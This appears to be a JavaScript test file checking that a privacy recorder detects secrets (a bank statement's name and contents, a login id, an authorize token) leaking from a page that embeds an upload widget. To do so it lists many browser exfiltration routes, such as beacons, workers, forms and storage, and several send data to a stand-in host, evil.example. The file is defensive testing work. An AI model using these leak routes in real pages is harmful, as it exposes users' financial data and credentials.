// Tests the recorder itself: it must detect each kind of secret in each channel.
import { CONNECT_ORIGIN, expect, pdf, test } from '../host-page.mjs';
import { MARKER, sha256 } from '../privacy-recorder.mjs';

const NAME = 'Relevé de mars 2026.pdf';
const LOGIN = '5e115eac-1209-4f19-641c-08d6d484e2fe';
const TOKEN = 'c4569c54-e167-4d34-8de6-52113bc95414';
const content = pdf(NAME).join('');

const SECRETS = {
  name: NAME,
  bytes: `… (${MARKER}) …`,
  hash: sha256(content),
  login: LOGIN,
  token: TOKEN,
};

/** Leaks by a page's own code or by third-party scripts. */
const CHANNELS = {
  request: (text) => fetch(`/collect?q=${encodeURIComponent(text)}`).catch(() => {}),
  body: (text) => fetch('/collect', { method: 'POST', body: text }).catch(() => {}),
  header: (text) => fetch('/collect', { headers: { 'x-about': encodeURIComponent(text) } }).catch(() => {}),
  console: (text) => console.log(`got ${text}`),
  localStorage: (text) => localStorage.setItem('draft', text),
  sessionStorage: (text) => sessionStorage.setItem('draft', text),
  cookie: (text) => void (document.cookie = `draft=${encodeURIComponent(text)}`),
  history: (text) => history.replaceState({ text }, ''),
  postMessage: (text) => document.querySelector('flinks-upload').shadowRoot.querySelector('iframe').contentWindow.postMessage({ text }, '*'),
  BroadcastChannel: (text) => new BroadcastChannel('draft').postMessage({ text }),
  WebSocket: (text) => void new WebSocket(`wss://evil.example/?q=${encodeURIComponent(text)}`),
  IndexedDB: (text) =>
    new Promise((resolve) => {
      const opening = indexedDB.open('draft');
      opening.onupgradeneeded = () => opening.result.createObjectStore('files', { autoIncrement: true });
      opening.onsuccess = () => {
        const change = opening.result.transaction('files', 'readwrite');
        change.objectStore('files').add({ file: new File([text], 'x') });
        change.oncomplete = () => resolve(opening.result.close());
      };
    }),
  Cache: async (text) => (await caches.open('draft')).put('/draft', new Response(text)),
};

/** Other routes into the same channels, and channels that take more than one call. */
const OTHER_CHANNELS = {
  'a beacon’s address': ['beacon', (text) => void navigator.sendBeacon(`/collect?q=${encodeURIComponent(text)}`)],
  'a beacon’s body': ['beacon', (text) => void navigator.sendBeacon('/collect', new Blob([text]))],
  'the address of a worker': ['worker', (text) => new Worker(`/collect.js?q=${encodeURIComponent(text)}`).terminate()],
  'the name of a worker': ['worker', (text) => new Worker('/collect.js', { name: text }).terminate()],
  'a request of a worker': ['request', (text) => void new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(`${location.origin}/collect?q=${encodeURIComponent(text)}`)})`])))],
  'an image': ['request', (text) => void (new Image().src = `https://evil.example/collect?q=${encodeURIComponent(text)}`)],
  'a style': ['request', (text) => void document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `/collect?q=${encodeURIComponent(text)}` }))],
  'a window that is opened': ['request', (text) => window.open(`https://evil.example/collect?q=${encodeURIComponent(text)}`)?.blur()],
  'a parameter named as that of Connect': ['request', (text) => window.open(`https://evil.example/v2/?authorizeToken=${encodeURIComponent(text)}`)?.blur()],
  'such a parameter of the page': ['history', (text) => history.replaceState(null, '', `/v2/?authorizeToken=${encodeURIComponent(text)}`)],
  'a frame': ['history', (text) => void document.body.append(Object.assign(document.createElement('iframe'), { src: `https://evil.example/collect#${encodeURIComponent(text)}` }))],
  'a form': ['body', (text) => {
    const form = Object.assign(document.createElement('form'), { method: 'POST', action: '/collect', target: 'sink' });
    form.append(Object.assign(document.createElement('textarea'), { name: 'q', value: text }));
    document.body.append(Object.assign(document.createElement('iframe'), { name: 'sink' }), form);
    form.submit();
  }],
  'the page’s title': ['title', (text) => void (document.title = text)],
  'the address of the page': ['history', (text) => history.replaceState(null, '', `#${encodeURIComponent(text)}`)],
  'the referrer': ['header', async (text) => {
    history.replaceState(null, '', `/?q=${encodeURIComponent(text)}`);
    await fetch('/collect').catch(() => {});
  }],
  'the window’s name': ['history', (text) => void (window.name = text)],
  'the resource timing': ['timing', (text) => fetch(`/collect?q=${encodeURIComponent(text)}`).then((answer) => answer.text())],
  'an error': ['error', (text) => void setTimeout(() => {
    throw new Error(text);
  })],
  'a port': ['MessagePort', (text) => new MessageChannel().port1.postMessage({ text })],
};

/** A journey that involves one of each kind of secret. */
async function journey(hostPage) {
  await hostPage.open({ instance: 'toolbox', 'authorize-token': TOKEN }, { policy: '' });
  await hostPage.chooseUpload();
  await hostPage.element.evaluate((element, [name, text]) => element.addFiles([new File([text], name)]), [NAME, content]);
  await hostPage.waitForReport(1);
}

test('a journey to its end leaks nothing, and the recorder heard it @claim:nothing-leaves', async ({ hostPage, recorder }) => {
  await journey(hostPage);
  await hostPage.part('continue').click();
  await expect(hostPage.part('checklist')).toBeVisible();
  expect(await hostPage.frameUrl()).toContain(TOKEN);
  await hostPage.postFromConnect({ step: 'REDIRECT', loginId: LOGIN });
  expect(await recorder.leaks()).toEqual([]);
  expect(recorder.entryCount).toBeGreaterThan(20);
});

/** Removes every trace of a leak. */
async function cleanUp(hostPage, recorder) {
  for (const page of hostPage.page.context().pages()) if (page !== hostPage.page) await page.close();
  await hostPage.page.evaluate(async () => {
    document.title = window.name = '';
    for (const frame of document.querySelectorAll('iframe')) frame.remove();
    localStorage.clear();
    sessionStorage.clear();
    document.cookie = 'draft=; max-age=0';
    history.replaceState(null, '', '/');
    performance.clearResourceTimings();
    await caches.delete('draft');
    await new Promise((resolve) => (indexedDB.deleteDatabase('draft').onsuccess = resolve));
  });
  hostPage.violations.length = 0;
  hostPage.pageErrors.length = 0;
  recorder.reset();
}

for (const [channel, leak] of Object.entries(CHANNELS)) {
  test(`whatever leaks through ${channel} is seen`, async ({ hostPage, recorder }) => {
    await journey(hostPage);
    await hostPage.page.context().route('**/collect**', (route) => route.fulfill({ body: '' }));
    await hostPage.part('retry').click();
    await hostPage.connectFrame();
    // REDIRECT provides a login id to leak, but also removes the frame that the postMessage case needs.
    const frame = hostPage.page.frames().find((one) => one.url().startsWith(CONNECT_ORIGIN));
    if (channel !== 'postMessage') await hostPage.postFromConnect({ step: 'REDIRECT', loginId: LOGIN });
    else await hostPage.postFromConnect({ step: 'COMPONENT_LOAD_MFA', loginId: LOGIN });
    expect(frame).toBeTruthy();
    for (const [kind, secret] of Object.entries(SECRETS)) {
      await hostPage.page.evaluate(leak, secret);
      await expect.poll(() => recorder.leaks(), kind).toContain(`${channel}: ${kind}`);
    }
    await cleanUp(hostPage, recorder);
  });
}

test('whatever leaks on other ways is seen, too @claim:nothing-leaves', async ({ hostPage, recorder }) => {
  await journey(hostPage);
  await hostPage.page.context().route('**/collect**', (route) => route.fulfill({ body: '' }));
  await hostPage.part('retry').click();
  await hostPage.postFromConnect({ step: 'REDIRECT', loginId: LOGIN });
  recorder.reset();
  for (const [name, [channel, leak]] of Object.entries(OTHER_CHANNELS)) {
    expect(await recorder.leaks(), `before ${name}`).toEqual([]);
    await hostPage.page.evaluate(leak, Object.values(SECRETS).join(' '));
    const seen = Object.keys(SECRETS).map((kind) => `${channel}: ${kind}`);
    await expect.poll(() => recorder.leaks(), name).toEqual(expect.arrayContaining(seen));
    await cleanUp(hostPage, recorder);
  }
});

test('Base64, hexadecimal and percent signs hide nothing', async ({ hostPage, recorder }) => {
  await journey(hostPage);
  const json = Buffer.from(`{"about":"${MARKER}"}`);
  for (const text of [json.toString('base64'), json.toString('hex'), encodeURIComponent(json), Buffer.from(SECRETS.hash, 'hex').toString('base64')]) {
    await hostPage.page.evaluate((line) => console.log(line), text);
    await expect.poll(() => recorder.leaks()).not.toEqual([]);
    recorder.reset();
  }
});
